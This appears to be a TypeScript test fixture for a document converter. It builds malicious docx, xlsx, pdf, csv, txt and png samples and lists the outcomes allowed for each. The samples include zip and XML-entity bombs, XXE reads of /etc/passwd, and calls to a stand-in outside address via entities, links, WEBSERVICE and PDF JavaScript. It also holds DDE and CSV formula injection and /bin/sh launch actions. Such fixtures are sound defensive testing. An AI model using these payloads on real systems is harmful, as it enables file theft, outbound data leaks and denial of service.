import { readFileSync } from 'node:fs';
import { deflateRawSync, deflateSync } from 'node:zlib';
import type { ConvertibleType } from '@devorbit/contract/execution/documents.ts';
import { docx, docxParts, links, OFFICE, pptx, WORD, xlsx, xlsxParts, zipped } from './office-files.ts';
import { drawn, firstMore, FONT, pdfOf, type PdfObject, textPdf } from './pdf-file.ts';
import { compoundFile, zlibZeros } from './raw-files.ts';

const MB = 1024 * 1024;

/** A document that is made to do harm, and what it may get. */
export type Hostile = {
  name: string;
  type: ConvertibleType;
  make: (outside: string) => Buffer;
  /** What a runner may say of it: outcomes, and faults behind a colon. */
  allowed: RegExp;
};

/** Many bytes of the same, packed, without ever having them all. */
function packed(piece: Buffer, times: number): { bytes: Buffer; size: number; crc: number } {
  const bytes = deflateRawSync(Buffer.concat(Array.from({ length: times }, () => piece)), { level: 9 });
  return { bytes, size: piece.length * times, crc: 0 };
}

/** A zip whose entry of this name says what it likes of its size. */
function withEntry(whole: Buffer, name: string, change: (directory: Buffer, at: number) => void): Buffer {
  const bytes = Buffer.from(whole);
  const wanted = Buffer.from(name);
  for (let at = bytes.indexOf('504b0102', 0, 'hex'); at >= 0; at = bytes.indexOf('504b0102', at + 4, 'hex')) {
    const length = bytes.readUInt16LE(at + 28);
    if (bytes.subarray(at + 46, at + 46 + length).equals(wanted)) change(bytes, at);
  }
  return bytes;
}

const wordXml = (inside: string, before = ''): string =>
  `<?xml version="1.0"?>${before}<w:document ${WORD} xmlns:r="${OFFICE}/relationships"><w:body>${inside}</w:body></w:document>`;

/** So many `&lol9;` in a row would be three billion. */
const LAUGHS = `<!DOCTYPE w [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at === 0 ? '' : at};`.repeat(10)}">`,
).join('')}]>`;

const bombOf = (mb: number): Buffer => {
  const paragraph = Buffer.from('<w:p><w:r><w:t>a</w:t></w:r></w:p>'.repeat(30_000));
  const times = Math.ceil((mb * MB) / paragraph.length);
  return docx([], {
    'word/document.xml': Buffer.concat([
      Buffer.from(wordXml('').replace('</w:body></w:document>', '')),
      ...Array.from({ length: times }, () => paragraph),
      Buffer.from('</w:body></w:document>'),
    ]),
  });
};

const SHEET = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const sheetXml = (rows: string): string => `<worksheet xmlns="${SHEET}"><sheetData>${rows}</sheetData></worksheet>`;

/** A workbook whose cells name strings that stand elsewhere. */
function sharingXlsx(strings: string, rows: string): Buffer {
  const parts = xlsxParts({ Shared: [] });
  const types = String(parts['[Content_Types].xml']);
  return zipped({
    ...parts,
    '[Content_Types].xml': types.replace(
      '</Types>',
      '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    ),
    'xl/_rels/workbook.xml.rels': links([
      { id: 'r1', type: 'worksheet', target: 'worksheets/sheet1.xml' },
      { id: 's1', type: 'sharedStrings', target: 'sharedStrings.xml' },
    ]),
    'xl/sharedStrings.xml': strings,
    'xl/worksheets/sheet1.xml': sheetXml(rows),
  });
}
const stringsXml = (text: string, before = ''): string =>
  `<?xml version="1.0"?>${before}<sst xmlns="${SHEET}" count="1" uniqueCount="1"><si><t>${text}</t></si></sst>`;

/** Comes with the programs that documents are prepared by. */
const FONT_FILE = '/usr/share/fonts/truetype/liberation2/LiberationSans-Regular.ttf';
const CUTS = 48;

/** A page of which each line has a font of its own, cut at another place. */
function cutFonts(): Buffer {
  const font = readFileSync(FONT_FILE);
  const numbers = Array.from({ length: CUTS }, (_, at) => at);
  const named = (at: number) => 5 + 3 * at;
  const lines = numbers.map((at) => `/F${at} 12 Tf (Cut at place ${at}) Tj T*`).join(' ');
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 595 842]>>',
    `<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<<${numbers.map((at) => `/F${at} ${named(at)} 0 R`).join('')}>>>>>>`,
    { dictionary: '', stream: Buffer.from(`BT 16 TL 40 810 Td ${lines} ET`) },
    ...numbers.flatMap((at): PdfObject[] => [
      `<</Type/Font/Subtype/TrueType/BaseFont/Cut${at}/FirstChar 32/LastChar 126/Widths[${'600 '.repeat(95)}]/Encoding/WinAnsiEncoding/FontDescriptor ${named(at) + 1} 0 R>>`,
      `<</Type/FontDescriptor/FontName/Cut${at}/Flags 32/FontBBox[0 -200 1000 900]/ItalicAngle 0/Ascent 900/Descent -200/CapHeight 700/StemV 80/FontFile2 ${named(at) + 2} 0 R>>`,
      {
        dictionary: '/Filter/FlateDecode',
        stream: deflateSync(font.subarray(0, Math.floor((font.length * (at + 1)) / (CUTS + 1)))),
      },
    ]),
  ]);
}

/** A page tree with this content for its only page. */
const onePage = (more: string, stream = '', catalogue = ''): Buffer =>
  pdfOf([
    `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
    `<</Type/Pages/Count 1/Kids[3 0 R]>>`,
    `<</Type/Page/Parent 2 0 R/Contents 4 0 R${more}>>`,
    { dictionary: '', stream: Buffer.from(stream) },
  ]);

/** Documents that are made to do harm, all by us. `outside` is an address that nothing may reach. */
export const hostile: Hostile[] = [
  {
    name: 'docx that unpacks to 60 MB of paragraphs',
    type: 'docx',
    make: () => bombOf(60),
    allowed: /^refused: (too_slow|too_much_memory|too_large|broken)$/,
  },
  {
    name: 'docx whose directory names 4 GB',
    type: 'docx',
    make: () => withEntry(docx(['a']), 'word/document.xml', (bytes, at) => bytes.writeUInt32LE(0xffff_0000, at + 24)),
    allowed: /^refused: too_large$/,
  },
  {
    name: 'docx whose directory names 3 bytes for 64 MB',
    type: 'docx',
    make: () => {
      const { bytes } = packed(Buffer.alloc(MB, ' '), 64);
      const zip = zipped(docxParts(['a'], { 'word/styles.xml': bytes }));
      return withEntry(zip, 'word/styles.xml', (all, at) => all.writeUInt32LE(3, at + 24));
    },
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'docx whose directory ends before its last entry',
    type: 'docx',
    make: () => {
      const bytes = docx(['a']);
      bytes.writeUInt16LE(60_000, bytes.length - 12);
      return bytes;
    },
    allowed: /^refused: broken$/,
  },
  {
    name: 'docx with a billion laughs',
    type: 'docx',
    make: () => docx([], { 'word/document.xml': wordXml('<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>', LAUGHS) }),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'docx with entities of a file and of an address',
    type: 'docx',
    make: (outside) =>
      docx([], {
        'word/document.xml': wordXml(
          '<w:p><w:r><w:t>Here &a; &b;</w:t></w:r></w:p>',
          `<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "${outside}/entity">]>`,
        ),
      }),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'docx with a template and a picture from outside, and a file of the machine',
    type: 'docx',
    make: (outside) =>
      docx([], {
        'word/document.xml': wordXml(
          `<w:p><w:r><w:t>Linked</w:t></w:r></w:p><w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;file:///etc/passwd&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p><w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;${outside}/p.png&quot; \\d "/></w:p>`,
        ),
        'word/_rels/document.xml.rels': links([
          { id: 's1', type: 'settings', target: 'settings.xml' },
          { id: 'i1', type: 'image', target: `${outside}/i.png`, external: true },
          { id: 'o1', type: 'oleObject', target: 'file:///etc/passwd', external: true },
        ]),
        'word/settings.xml': `<w:settings ${WORD} xmlns:r="${OFFICE}/relationships"><w:attachedTemplate r:id="t1"/></w:settings>`,
        'word/_rels/settings.xml.rels': links([
          { id: 't1', type: 'attachedTemplate', target: `${outside}/t.dotm`, external: true },
        ]),
      }),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'docm by the name of docx',
    type: 'docx',
    make: () => docx(['a'], { 'word/vbaProject.bin': 'Sub AutoOpen()' }),
    allowed: /^refused: macros$/,
  },
  {
    name: 'docx of 3,000 nested tables',
    type: 'docx',
    make: () =>
      docx([], {
        'word/document.xml': wordXml(
          `${'<w:tbl><w:tr><w:tc>'.repeat(3000)}<w:p/>${'</w:tc></w:tr></w:tbl>'.repeat(3000)}`,
        ),
      }),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'xlsx with its only cell in the last row and column',
    type: 'xlsx',
    make: () =>
      xlsx(
        { Far: [] },
        {
          'xl/worksheets/sheet1.xml': sheetXml(
            '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>',
          ),
        },
      ),
    allowed: /^(ready|partial|refused: (too_slow|too_large|too_much_memory|broken))$/,
  },
  {
    name: 'xlsx of 800 sheets',
    type: 'xlsx',
    make: () => xlsx(Object.fromEntries(Array.from({ length: 800 }, (_, at) => [`S${at}`, [['x']]]))),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'xlsx that asks the web and reads a file of the machine',
    type: 'xlsx',
    make: (outside) =>
      zipped(
        xlsxParts(
          { Web: [] },
          {
            'xl/worksheets/sheet1.xml': sheetXml(
              `<row r="1"><c r="A1" t="str"><f>WEBSERVICE("${outside}/cell")</f><v>kept</v></c><c r="B1" t="str"><f>'file:///etc/passwd'#$Sheet1.A1</f><v>kept</v></c><c r="C1" t="str"><f>DDE("soffice","file:///etc/passwd","a")</f><v>kept</v></c></row>`,
            ),
          },
        ),
      ),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'xlsx whose strings laugh a billion times',
    type: 'xlsx',
    make: () =>
      xlsx(
        { Laugh: [] },
        {
          'xl/worksheets/sheet1.xml': `<?xml version="1.0"?>${LAUGHS}${sheetXml(
            '<row r="1"><c t="inlineStr"><is><t>&lol9;</t></is></c></row>',
          )}`,
        },
      ),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'xlsx of 20,000 cells that share a string of a million letters',
    type: 'xlsx',
    make: () =>
      sharingXlsx(
        stringsXml('a'.repeat(1_000_000)),
        Array.from({ length: 2000 }, (_, at) => `<row r="${at + 1}">${'<c t="s"><v>0</v></c>'.repeat(10)}</row>`).join(
          '',
        ),
      ),
    allowed: /^refused: too_slow$/,
  },
  {
    name: 'xlsx with entities of a file and of an address',
    type: 'xlsx',
    make: (outside) =>
      sharingXlsx(
        stringsXml(
          'Here &a; &b;',
          `<!DOCTYPE s [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "${outside}/entity">]>`,
        ),
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
      ),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'pptx of 1,500 slides',
    type: 'pptx',
    make: () => pptx(Array.from({ length: 1500 }, (_, at) => `Slide ${at}`)),
    allowed: /^(ready|partial|refused: (too_slow|too_large|too_much_memory|broken))$/,
  },
  {
    name: 'docx that is locked',
    type: 'docx',
    make: () => compoundFile(['EncryptedPackage', 'EncryptionInfo']),
    allowed: /^refused: encrypted$/,
  },
  {
    name: 'PDF of 100,000 pages',
    type: 'pdf',
    make: () =>
      pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        `<</Type/Pages/Count 100000/Kids[${'3 0 R '.repeat(100_000)}]/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>>>>>`,
        '<</Type/Page/Parent 2 0 R/Contents 4 0 R>>',
        { dictionary: '', stream: drawn('The same page again') },
        FONT,
      ]),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'PDF whose page tree is its own child',
    type: 'pdf',
    make: () =>
      pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 9/Kids[2 0 R 2 0 R 2 0 R]/Parent 2 0 R>>']),
    allowed: /^(partial|refused)/,
  },
  {
    name: 'PDF of page trees 20,000 deep',
    type: 'pdf',
    make: () =>
      pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        ...Array.from(
          { length: 20_000 },
          (_, at) => `<</Type/Pages/Count 1/Kids[${at + 3} 0 R]/Parent ${at + 1} 0 R>>`,
        ),
        '<</Type/Page/Parent 20001 0 R/MediaBox[0 0 200 200]>>',
      ]),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'PDF with a page that inflates to 1 GB',
    type: 'pdf',
    make: () => {
      const once = deflateSync(Buffer.alloc(1024 * MB, ' '), { level: 9 });
      return pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 200 200]>>',
        '<</Type/Page/Parent 2 0 R/Contents 4 0 R>>',
        { dictionary: '/Filter[/FlateDecode/FlateDecode]', stream: deflateSync(once) },
      ]);
    },
    allowed: /^refused: too_much_memory$/,
  },
  {
    name: 'PDF with a page that inflates to 4 GB',
    type: 'pdf',
    make: () =>
      pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 200 200]>>',
        '<</Type/Page/Parent 2 0 R/Contents 4 0 R>>',
        { dictionary: '/Filter/FlateDecode', stream: zlibZeros(4096 * MB) },
      ]),
    allowed: /^refused: too_much_memory$/,
  },
  {
    name: `PDF of fonts that are cut at ${CUTS} places`,
    type: 'pdf',
    make: cutFonts,
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'PDF that runs JavaScript, starts a program, opens an address and has XFA',
    type: 'pdf',
    make: (outside) =>
      textPdf(['Nothing runs'], {
        catalogue: `/OpenAction ${firstMore(1)} 0 R/AA<</WC ${firstMore(1) + 1} 0 R>>/AcroForm<</XFA ${firstMore(1) + 2} 0 R/Fields[]>>`,
        objects: [
          `<</S/JavaScript/JS(this.submitForm\\("${outside}/js"\\);app.launchURL\\("${outside}/url"\\))>>`,
          '<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>',
          {
            dictionary: '',
            stream: Buffer.from(
              `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><!DOCTYPE x [<!ENTITY e SYSTEM "${outside}/xfa">]>&e;</xdp:xdp>`,
            ),
          },
        ],
      }),
    allowed: /^ready$/,
  },
  {
    name: 'PDF that wants a file of the machine for a picture and for content',
    type: 'pdf',
    make: () =>
      pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 200 200]>>',
        '<</Type/Page/Parent 2 0 R/Contents 4 0 R>>',
        { dictionary: '/F(/etc/passwd)', stream: Buffer.from('') },
      ]),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'PDF with a page of 140 km a side',
    type: 'pdf',
    make: () => onePage('/MediaBox[0 0 400000000 400000000]'),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'PDF whose patterns draw each other',
    type: 'pdf',
    make: () => onePage('/MediaBox[0 0 200 200]/Resources<</XObject<</X 4 0 R>>>>', '/X Do /X Do /X Do /X Do'),
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'PDF that is locked by a key nobody has',
    type: 'pdf',
    make: () =>
      textPdf(
        ['Secret'],
        {},
        {
          trailer: `/ID[<00><00>]/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -1/O<${'ab'.repeat(32)}>/U<${'cd'.repeat(32)}>>>`,
        },
      ),
    allowed: /^refused: (encrypted|broken)$/,
  },
  {
    name: 'PDF whose cross references lead nowhere',
    type: 'pdf',
    make: () => textPdf(['Found all the same'], {}, { startxref: 40_000_000 }),
    allowed: /^(ready|partial)$/,
  },
  {
    name: 'PDF cut off in the middle',
    type: 'pdf',
    make: () => {
      const whole = textPdf(['One', 'Two', 'Three']);
      return Buffer.concat([whole.subarray(0, whole.length / 2), Buffer.from('\n%%EOF\n')]);
    },
    allowed: /^(ready|partial|refused)/,
  },
  {
    name: 'PDF that is a program',
    type: 'pdf',
    make: () => Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(600)]),
    allowed: /^refused: wrong_type$/,
  },
  {
    name: 'csv of formulas and one line of 8 MB',
    type: 'csv',
    make: () => Buffer.from(`=cmd|' /C calc'!A0,@SUM(1)\n"${'x'.repeat(8 * MB)}`),
    allowed: /^ready$/,
  },
  {
    name: 'csv of a million quotes',
    type: 'csv',
    make: () => Buffer.from('"'.repeat(1_000_000)),
    allowed: /^ready$/,
  },
  {
    name: 'txt that is HTML',
    type: 'txt',
    make: (outside) => Buffer.from(`<script src="${outside}/s.js"></script><img src="${outside}/i.png">`),
    allowed: /^ready$/,
  },
  {
    name: 'txt with zero bytes',
    type: 'txt',
    make: () => Buffer.from('a\0b'),
    allowed: /^refused: wrong_type$/,
  },
  {
    name: 'png that is SVG',
    type: 'png',
    make: (outside) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${outside}/i"/></svg>`),
    allowed: /^refused: wrong_type$/,
  },
];
